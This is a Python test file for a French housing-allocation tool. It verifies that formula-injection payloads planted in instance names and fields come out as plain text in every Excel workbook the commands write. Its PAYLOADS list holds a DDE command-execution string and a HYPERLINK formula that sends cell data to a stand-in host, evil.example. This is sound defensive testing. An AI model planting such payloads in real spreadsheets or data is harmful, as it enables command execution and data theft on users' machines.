"""No formula from data, ever: names planted with `=`, `+`, `-`, `@` in every text field of an
instance (réservataire id and nom, commune_nom, epci_nom, instance nom and bailleur, scenario
names) come out as text in every workbook the commands write — never as a formula cell."""

from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from conftest import EXEMPLE
from flux_opt.cli.main import app

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1", "-1+2", "@SUM(A1)"]
IDS = {"ville_roubaix": PAYLOADS[0], "mel": PAYLOADS[1], "employeur_port": PAYLOADS[4]}


def hostile_copy(source: Path, folder: Path) -> Path:
    """The example with every free text field replaced by a formula-looking payload."""
    shutil.copytree(source, folder)
    for path in folder.glob("*.csv"):
        df = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in ("id", "reservataire"):
            if column in df:
                df[column] = df[column].replace(IDS)
        if path.name == "reservataires.csv":
            df["nom"] = [PAYLOADS[i % 5] + (f" {i}" if i % 2 else "") for i in range(len(df))]
        if path.name == "parc.csv":
            df["commune_nom"] = [PAYLOADS[i % 5] for i in range(len(df))]
            df["epci_nom"] = [PAYLOADS[(i + 1) % 5] for i in range(len(df))]
        df.to_csv(path, index=False)
    toml = folder / "instance.toml"
    text = toml.read_text(encoding="utf-8").replace('nom = "Exemple Nord 2027"', "nom = \"=cmd|' /C calc'!A0\"")
    toml.write_text(text.replace('bailleur = "Habitat Flandre Métropole (fictif)"', 'bailleur = "@SUM(A1)"'),
                    encoding="utf-8")
    return folder


def cells(folder: Path) -> tuple[list[str], set[str]]:
    """(formula cells « file!sheet!A1 », payload texts met) of every workbook under `folder`."""
    formulas, met = [], set()
    books = sorted(folder.rglob("*.xlsx"))
    assert books, f"aucun classeur écrit dans {folder}"
    for book in books:
        for sheet in openpyxl.load_workbook(book):
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        formulas.append(f"{book.name}!{sheet.title}!{cell.coordinate}")
                    elif isinstance(cell.value, str):
                        met |= {p for p in PAYLOADS if p in cell.value}
    return formulas, met


def run(*args) -> str:
    result = CliRunner().invoke(app, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Path]:
    """(hostile instance, its plan folder)."""
    root = tmp_path_factory.mktemp("injection")
    instance = hostile_copy(EXEMPLE, root / "instance")
    run("plan", instance, "--sortie", root / "plan")
    return instance, root / "plan"


def test_plan_report_stores_names_as_text(hostile):
    formulas, met = cells(hostile[1])
    assert formulas == []
    assert met == set(PAYLOADS)  # every payload reached the workbook, as text


def test_comparison_and_sweep_workbooks(hostile, tmp_path):
    instance, _ = hostile
    for k, name in enumerate(PAYLOADS[:2]):
        (tmp_path / f"s{k}.toml").write_text(
            f"nom = {name!r}\ndescription = {PAYLOADS[4]!r}\nbase = {str(instance)!r}\n[regles]\nprefet_taux = 0.2{k}\n",
            encoding="utf-8")
    run("comparer", instance, tmp_path / "s0.toml", tmp_path / "s1.toml", "--sortie", tmp_path / "c", "--processus", 1)
    run("comparer", instance, "--balayer", "prefet_taux=0.25:0.30:0.05", "--sortie", tmp_path / "b", "--processus", 1)
    for folder in (tmp_path / "c", tmp_path / "b"):
        formulas, met = cells(folder)
        assert formulas == [] and met, folder


def test_year_workbooks_suivi_and_bilan(hostile, tmp_path):
    instance, plan = hostile
    journal = tmp_path / "journal.csv"
    run("simuler", plan, "--journal", journal, "--annee", 2027)
    run("suivi", plan, journal, "--instance", instance, "--sortie", tmp_path / "suivi")
    run("bilan", plan, journal, "--annee", 2027, "--instance", instance, "--sortie", tmp_path / "bilan")
    for folder in (tmp_path / "suivi", tmp_path / "bilan"):
        formulas, met = cells(folder)
        assert formulas == [] and met, folder


def test_conversion_workbook(hostile, tmp_path):
    run("convertir", hostile[0], "--sortie", tmp_path / "conv")
    formulas, met = cells(tmp_path / "conv")
    assert formulas == [] and met


def test_batch_workbooks(hostile, tmp_path):
    shutil.copytree(hostile[0], tmp_path / "lot" / "hostile")
    run("lot", tmp_path / "lot", "--sortie", tmp_path / "res", "--processus", 1, "--analyse")
    formulas, met = cells(tmp_path / "res")
    assert formulas == [] and met


def test_negotiation_export(hostile, tmp_path):
    from flux_opt.negotiation.live.state import Session

    session = Session(hostile[0], tmp_path / "sortie")
    session.update({"nom": PAYLOADS[1], "regles.prefet_taux": "25"})
    folder, _ = session.export()
    formulas, met = cells(folder)
    assert formulas == [] and PAYLOADS[1] in met


def test_every_workbook_is_opened_by_the_one_safe_helper():
    """A new writer cannot forget the options: only report/workbook.py opens a workbook to write."""
    import re

    import flux_opt

    root = Path(flux_opt.__file__).parent
    opener = re.compile(r"xlsxwriter\.Workbook\(|ExcelWriter\(|openpyxl import .*\bWorkbook\b|\bWorkbook\(\)")
    offenders = [f"{p.relative_to(root)}:{n}" for p in sorted(root.rglob("*.py")) if p.name != "workbook.py"
                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if opener.search(line)]
    assert offenders == []
